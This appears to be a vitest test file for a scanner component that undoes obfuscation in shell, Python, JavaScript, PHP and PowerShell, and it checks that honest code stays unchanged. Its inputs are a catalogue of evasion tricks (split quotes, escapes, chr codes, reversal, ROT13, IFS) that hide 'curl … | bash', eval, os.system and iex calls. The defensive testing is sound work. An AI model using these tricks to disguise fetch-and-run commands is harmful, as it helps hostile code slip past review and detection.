/** Words that are spelled so that nobody finds them read as what they come to; honest code stays as it is. */
import { describe, expect, it } from "vitest";
import { positionsIn, type ScanDocument } from "../../../src/core/scan/document.ts";
import { plainlySpelled } from "../../../src/core/scan/plain-spelling.ts";
import { zonesOf } from "../../../src/core/scan/zones/zones.ts";

function documentOf(path: string, text: string): ScanDocument {
  return { path, text, spans: zonesOf(path, text), via: [], positionOf: positionsIn(text) };
}

const plain = (path: string, text: string) => plainlySpelled(documentOf(path, text)).text;

describe("a shell's word", () => {
  it.each([
    ["in pieces of quotes", `c"ur"l x | b'a's"h"`, "curl x | bash"],
    ["with empty quotes", `cu""rl x | ba''sh`, "curl x | bash"],
    ["with escaped letters", "c\\u\\rl x | \\bash", "curl x | bash"],
    ["in quoted escapes", "$'\\x63\\x75\\x72\\x6c' x | $'\\142\\141\\163\\150'", "curl x | bash"],
    ["with another separator", "curl$\u007bIFS}x|sh$IFS$9y", "curl x|sh y"],
    ["with empty variables", "cu$@rl x | b$\u007b*}ash", "curl x | bash"],
    ["in variables", "a=cu;b=rl\n$a$b x", "a=cu;b=rl\ncurl x"],
    [
      "behind a variable",
      'U="https://a.example/i"\ncurl "$U" | sh',
      'U="https://a.example/i"\ncurl "https://a.example/i" | sh',
    ],
    ["echoed", "$(echo cu)rl x | `printf 'bash'`", "curl x | bash"],
    ["in braces", "{curl,-s,https://a.example}|sh", "curl -s https://a.example|sh"],
    ["backwards", `$(echo "lruc" | rev) x`, '$("curl") x'],
    ["rotated", "echo 'phey k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", '"curl x | sh" | sh'],
  ])("%s", (_, text, expected) => {
    expect(plain("a.sh", text)).toBe(expected);
  });
});

describe("a program's word", () => {
  it.each([
    ["a.py", "os.system('cu' + 'rl x')", "os.system('curl x')"],
    ["a.py", "x = ('curl '\n     'https://a.example')", "x = ('curl https://a.example')"],
    ["a.py", "x(chr(99)+chr(0x75)+'rl')", 'x("curl")'],
    ["a.py", "x(chr(99)+chr(117))", 'x("cu")'],
    ["a.py", "x(''.join(map(chr, [99, 117, 114, 108])))", 'x("curl")'],
    ["a.py", "x(bytes([99,117,114,108]).decode())", 'x("curl")'],
    ["a.py", "x(''.join([chr(c) for c in [99,117,114,108]]))", 'x("curl")'],
    ["a.py", "x('metsys'[::-1])", 'x("system")'],
    ["a.py", "x(codecs.decode('flfgrz', 'rot13'))", 'x("system")'],
    ["a.py", "x('sXyXsXtem'.replace('X', ''))", 'x("system")'],
    ["a.py", "x('\\x73\\x79stem')", "x('system')"],
    ["a.py", "a = 'cu'\nb = 'rl'\nx(a + b)", "a = 'cu'\nb = 'rl'\nx(\"curl\")"],
    ["a.py", "h = 'a.example'\nx(f'https://{h}/i')", "h = 'a.example'\nx(f'https://a.example/i')"],
    ["a.js", "x(String.fromCharCode(99, 117, 114, 108))", 'x("curl")'],
    ["a.js", 'require("child_" + "process")', 'require("child_process")'],
    ["a.js", 'x(["ev", "al"].join(""))', 'x("eval")'],
    ["a.js", 'x("lave".split("").reverse().join(""))', 'x("eval")'],
    ["a.js", "x('\\u0065val')", "x('eval')"],
    ["a.php", "<?php $f = 'sys' . 'tem';", "<?php $f = 'system';"],
    ["a.ps1", "i`e`x (c^url x)", "iex (curl x)"],
    ["a.ps1", "&('{1}{0}' -f 'ex','I')", '&("Iex")'],
    ["a.ps1", "x ([char]105+[char]101)", 'x ("ie")'],
    ["a.ps1", "x (@('i','ex') -join '')", 'x ("iex")'],
  ])("in %s: %s", (path, text, expected) => {
    expect(plain(path, text)).toBe(expected);
  });
});

describe("honest code stays as it is", () => {
  it.each([
    ["a.sh", "printf 'a\\n'\necho \"$HOME/bin\" 'b c'\nfor f in *.txt; do cat \"$f\"; done\n"],
    ["a.sh", "grep -E '^[a-z]+\\b' x | sed 's/a\\/b/c/'\ngit commit -m \"don't\"\n"],
    ["a.py", "x = [1, 2, 3]\ny = {'a': 'b', \"c\": 'd'}\nprint('a', 'b')\n"],
    ["a.js", "const a = [1, 2].join(', ');\nconst b = x.replace('a', 'b');\n"],
    ["a.js", "const re = /[\\u4e00-\\u9fff]\\u001b/;\n"],
    ["a.md", "It's c\"ur\"l and 'a' + 'b' in prose.\n"],
    ["a.json", '{"a": "\\u0041 + b"}'],
  ])("in %s: %j", (path, text) => {
    const document = documentOf(path, text);
    expect(plainlySpelled(document)).toBe(document);
  });
});

it("takes tricks in fences for what they are, and leads back to their lines", () => {
  const document = plainlySpelled(documentOf("a.md", "# A\n```bash\nX=c\nY=url\n$X$Y http://a | s''h\n```\n"));
  expect(document.text).toContain("\ncurl http://a | sh\n");
  expect(document.positionOf(document.text.indexOf("| sh"))).toEqual({ line: 5, column: 15 });
});

it("is linear", () => {
  for (const part of [
    "'a'+",
    '"\\x41',
    "$a",
    "a=b;$a\n",
    "chr(1)+",
    "['a',",
    "c\\u",
    "\\101",
    "{a,",
    "`a",
    "'a' ",
    "echo '",
  ]) {
    // What grows faster than the text meets the test's timeout.
    plainlySpelled(documentOf("a", `#!/bin/sh\na=b\n${part.repeat(500_000 / part.length)}`));
  }
});
